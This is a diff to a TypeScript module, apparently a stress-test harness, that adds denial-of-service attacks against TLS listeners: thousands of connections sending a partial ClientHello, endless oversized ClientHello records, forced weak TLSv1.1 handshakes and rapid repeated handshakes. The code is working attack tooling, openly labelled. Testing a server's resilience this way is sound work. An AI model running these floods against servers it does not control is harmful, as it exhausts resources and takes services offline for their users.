@@ -5,12 +5,14 @@ import * as tls from 'node:tls';
 const MIB = 1_048_576;
 const SIZE = 8 * MIB;
 const CHUNK = Buffer.alloc(65_536);
+/** The longest record of TLS. Unit: bytes. */
+const RECORD = 16_384;
 
 /** The listener under attack, and the identity of the attacker if the listener needs TLS. */
 export interface Target {
   readonly host: string;
   readonly port: number;
-  readonly identity?: { readonly cert?: string; readonly key?: string };
+  readonly identity?: tls.ConnectionOptions;
 }
 
 /** An attack that has started. It returns how it ends. */
@@ -120,15 +122,52 @@ export const PLAIN_ATTACKS: Record<string, Attack> = {
   '8,000 idle connections': (target) => endAll(open(target, 8_000)),
 };
 
+/** Sends the beginning of a ClientHello whose header claims 16 MB, as one record after the other. */
+function sendLongHello(socket: Socket): void {
+  const header = Buffer.from([22, 3, 1, RECORD >> 8, RECORD & 255]);
+  const claim = Buffer.from([1, 255, 255, 255]);
+  socket.write(Buffer.concat([header, claim, Buffer.alloc(RECORD - claim.length)]));
+  const writeMore = () => {
+    while (socket.writable && socket.write(Buffer.concat([header, Buffer.alloc(RECORD)])));
+  };
+  socket.on('drain', writeMore);
+  writeMore();
+}
+
+/** Opens connections again and again, and closes each after its handshake. */
+function handshakes(target: Target): () => void {
+  let sockets: Socket[] = [];
+  const handshake = () => {
+    sockets = [...sockets.filter(({ destroyed }) => !destroyed), ...open(target, 2, (socket) => socket.destroy())];
+  };
+  return repeat(20, handshake, () => endAll(sockets)());
+}
+
 /** The attacks on TLS itself. */
 export const TLS_ATTACKS: Record<string, Attack> = {
   '1,000 idle connections': (target) => endAll(open(target, 1_000)),
   '4,000 connections without a TLS handshake': ({ host, port }) => endAll(open({ host, port }, 4_000)),
-  'handshakes without a certificate': ({ host, port }) => {
-    let sockets: Socket[] = [];
-    const handshake = () => {
-      sockets = [...sockets.filter(({ destroyed }) => !destroyed), ...open({ host, port, identity: {} }, 2)];
-    };
-    return repeat(20, handshake, () => endAll(sockets)());
+  '4,000 connections with a part of a ClientHello': ({ host, port }) => {
+    // A record of 512 bytes with a ClientHello of 508, of which only the versions arrive.
+    const part = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);
+    return endAll(open({ host, port }, 4_000, (socket) => socket.write(part)));
   },
+  'ClientHellos without an end': ({ host, port }) => {
+    let sockets: Socket[] = [];
+    const begin = () => {
+      sockets = [
+        ...sockets.filter(({ destroyed }) => !destroyed),
+        ...open({ host, port }, 10, (socket) => sendLongHello(socket)),
+      ];
+    };
+    return repeat(100, begin, () => endAll(sockets)());
+  },
+  'handshakes of old versions': ({ host, port }) =>
+    handshakes({
+      host,
+      port,
+      identity: { minVersion: 'TLSv1.1', maxVersion: 'TLSv1.1', ciphers: 'DEFAULT@SECLEVEL=0' },
+    }),
+  'handshakes with a certificate, 100 a second': handshakes,
+  'handshakes without a certificate, 100 a second': ({ host, port }) => handshakes({ host, port, identity: {} }),
 };
